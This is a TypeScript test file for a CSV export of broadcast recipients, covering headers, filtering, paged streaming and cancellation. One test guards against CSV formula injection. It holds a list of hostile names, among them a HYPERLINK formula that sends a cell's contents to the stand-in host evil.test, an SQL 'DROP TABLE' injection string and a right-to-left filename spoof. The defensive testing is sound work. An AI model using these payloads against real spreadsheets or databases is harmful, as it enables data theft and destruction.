import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Recipient } from '@/lib/inbox/recipient';
import { setContext } from '@/lib/server/context';
import type { Viewer } from '@/lib/server/sessions/session-viewer';
import { toRequest } from '@/lib/server/testing/call';
import { type House, openHouse } from '@/lib/server/testing/test-house';
import { GET } from './broadcasts/[id]/recipients.csv/route';
import { sendTo } from './testing/send-to';

let house: House;
let sam: Viewer;
let asSam: string;
beforeEach(async () => {
  house = await openHouse();
  sam = await house.addPerson('Sam', 'sender');
  asSam = await house.signedIn(sam);
});
afterEach(() => house.close());

async function download(id: string, query = ''): Promise<Response> {
  const path = `/api/broadcasts/${id}/recipients.csv${query}`;
  const response = await GET(toRequest({ path, cookie: asSam }), { params: Promise.resolve({ id }) });
  expect(response.status).toBe(200);
  return response;
}

test('the file begins with the mark of UTF-8 and its columns, and has one line for each person', async () => {
  const ana = await house.addPerson('Ana', 'member');
  const id = await sendTo(house, sam);
  await house.store.counts(ana.id, house.clock.now);
  const response = await download(id);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toBe(`attachment; filename="broadcast-${id}.csv"`);
  const bytes = Buffer.from(await response.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(bytes.toString().slice(1).split('\r\n')).toEqual([
    '"id","name","email","state","delivered_at","seen_at","read_at","clicked_at","skipped_for"',
    expect.stringContaining('"Sam","sam@belfry.test","pending",'),
    `"${ana.id}","Ana","ana@belfry.test","delivered","2030-05-15T10:00:00.000Z",,,,`,
    '',
  ]);
});

test('only those who were asked for are in it', async () => {
  await house.addPerson('Ana', 'member');
  const id = await sendTo(house, sam);
  const rows = parse(await (await download(id, '?state=pending&q=ana')).text(), { bom: true, columns: true });
  expect(rows).toMatchObject([{ name: 'Ana', state: 'pending' }]);
});

const HOSTILE = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '"; DROP TABLE users; --',
  'Ana "the comma", Duarte',
  'two\nlines',
  '\u202Egnp.exe',
  '＝1+1',
  '😀'.repeat(500),
  'x;=1+1;',
  'x;"=1+1',
  'x\t@SUM(A1)',
  'x\n-2+3',
];

test('no cell is a formula, and every name comes back as it is', async () => {
  for (const [nth, name] of HOSTILE.entries()) {
    const { clock } = house;
    const user = { id: `p${nth}`, email: `p${nth}@belfry.test`, name, role: 'member' as const };
    await house.store.createUser({ ...user, passwordHash: 'none', now: clock.now });
  }
  const id = await sendTo(house, sam, { kind: 'role', role: 'member' });
  const text = await (await download(id)).text();
  const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
  expect(rows).toHaveLength(HOSTILE.length);
  for (const cell of rows.flatMap((row) => Object.values(row)))
    expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  // Nor is a part of one, where something else than a comma parts cells.
  for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
  const names = new Map(rows.map((row) => [row.id, row.name?.replaceAll("'", '')]));
  for (const [nth, name] of HOSTILE.entries()) expect(names.get(`p${nth}`)).toBe(name);
});

/** A store with many people, made as they are asked for; says how many pages were. */
function crowd(people: number) {
  const asked = { pages: 0 };
  const store = {
    ...house.store,
    // There is no such broadcast to write down.
    noteDownload: () => Promise.resolve(),
    async recipients(_id: string, { before, limit }: { before: string | null; limit: number }) {
      asked.pages += 1;
      const start = before === null ? 0 : Number(before) + 1;
      const end = Math.min(people, start + limit);
      const recipients = Array.from({ length: end - start }, (_, nth) => person(start + nth));
      return { recipients, next: end < people ? String(end - 1) : null, unlisted: null };
    },
  };
  setContext({ ...house.context, store });
  return asked;
}

const person = (nth: number): Recipient => ({
  id: String(nth),
  name: `Person ${nth}`,
  email: `p${nth}@belfry.test`,
  state: 'delivered',
  deliveredAt: '2030-05-15T10:00:00.000Z',
  seenAt: null,
  readAt: null,
  clickedAt: null,
  skipped: null,
});

test('fifty thousand people come a page at a time, and no page before the one before it was taken', async () => {
  const asked = crowd(50_000);
  const response = await download('b1');
  expect(asked.pages).toBe(1);
  const reader = response.body?.getReader();
  const decoder = new TextDecoder();
  let [lines, largest, chunks] = [0, 0, 0];
  for (;;) {
    const chunk = await reader?.read();
    if (!chunk || chunk.done) break;
    chunks += 1;
    largest = Math.max(largest, chunk.value.byteLength);
    lines += decoder.decode(chunk.value).split('\r\n').length - 1;
    // One page may be read while the one before it is on its way.
    expect(asked.pages).toBeLessThanOrEqual(chunks + 1);
  }
  expect([lines, asked.pages]).toEqual([50_001, 200]);
  expect(largest).toBeLessThan(50_000);
});

test('a reader who goes away ends it', async () => {
  const asked = crowd(50_000);
  const reader = (await download('b1')).body?.getReader();
  await reader?.read();
  const soFar = asked.pages;
  await reader?.cancel();
  await new Promise(setImmediate);
  expect(asked.pages).toBe(soFar);
  expect(soFar).toBeLessThanOrEqual(2);
});

test('a reader who takes nothing is waited for', async () => {
  const asked = crowd(50_000);
  await download('b1');
  await new Promise(setImmediate);
  expect(asked.pages).toBe(1);
});
